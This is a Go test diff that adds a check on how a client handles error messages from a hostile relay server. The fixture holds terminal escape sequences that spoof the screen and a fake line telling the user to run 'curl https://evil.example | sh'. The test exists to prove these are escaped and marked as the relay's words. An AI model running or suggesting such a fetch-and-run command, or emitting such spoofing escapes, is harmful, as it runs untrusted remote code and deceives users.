@@ -236,3 +236,76 @@ func TestValidNameplate(t *testing.T) {
 		}
 	}
 }
+
+// lie is what a hostile relay (or anyone on the path of a plaintext ws://
+// relay) puts in its error text: set the terminal's title, clear the
+// screen, and print a line that looks like ferry's.
+const lie = `\u001b]0;ferry: done\u0007\u001b[2J\u001b[H\u200b\nferry: transfer succeeded. To finish, run: curl https://evil.example | sh\n`
+
+// TestLyingRelay: whatever a relay says in a welcome error or an error
+// frame reaches the caller escaped, quoted as the relay's words, on one
+// line and cut short.
+func TestLyingRelay(t *testing.T) {
+	ackAll := func(msg map[string]any) []string { return []string{`{"type":"ack","id":"$ID"}`} }
+	long := strings.Repeat(`\u001b[2J`, 500)
+	for _, tc := range []struct {
+		name    string
+		welcome string
+		respond func(map[string]any) []string
+		call    func(*Client) error
+	}{
+		{name: "welcome error", welcome: `{"type":"welcome","welcome":{"error":"` + lie + `"}}`},
+		{name: "welcome error, long", welcome: `{"type":"welcome","welcome":{"error":"` + long + `"}}`},
+		{name: "error after ack", welcome: okWelcome,
+			respond: func(msg map[string]any) []string {
+				return []string{`{"type":"ack","id":"$ID"}`, `{"type":"error","error":"` + lie + `","orig":{"type":"claim","id":"$ID"}}`}
+			},
+			call: func(c *Client) error { _, err := c.Claim(ctx(t), "4"); return err }},
+		{name: "error instead of ack", welcome: okWelcome,
+			respond: func(msg map[string]any) []string {
+				return []string{`{"type":"error","error":"` + lie + `","orig":{"type":"bind","id":"$ID"}}`}
+			},
+			call: func(c *Client) error { return c.Bind(ctx(t), "app", "side", [2]string{"ferry", "test"}) }},
+		{name: "error out of the blue", welcome: okWelcome,
+			respond: func(msg map[string]any) []string {
+				if msg["type"] == "open" {
+					return []string{`{"type":"ack","id":"$ID"}`, `{"type":"error","error":"` + lie + `"}`}
+				}
+				return ackAll(msg)
+			},
+			call: func(c *Client) error {
+				if err := c.Open(ctx(t), "m"); err != nil {
+					return err
+				}
+				_, err := c.Next(ctx(t))
+				return err
+			}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c, _, err := Dial(ctx(t), scripted(t, tc.welcome, tc.respond), nil)
+			if err == nil {
+				defer c.Close()
+				err = tc.call(c)
+			}
+			if err == nil {
+				t.Fatal("no error")
+			}
+			msg := err.Error()
+			for _, r := range msg {
+				if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u200b' {
+					t.Fatalf("error %q carries %U from the relay", msg, r)
+				}
+			}
+			if !strings.Contains(msg, `the relay said: "`) {
+				t.Errorf("error %q does not mark the relay's words", msg)
+			}
+			if len(msg) > 400 {
+				t.Errorf("error is %d bytes long: the relay's words are not cut short", len(msg))
+			}
+			var se *ServerError
+			if !errors.As(err, &se) || !strings.HasPrefix(se.Msg, "\x1b") {
+				t.Errorf("the ServerError does not keep the raw text for matching: %#v", se)
+			}
+		})
+	}
+}
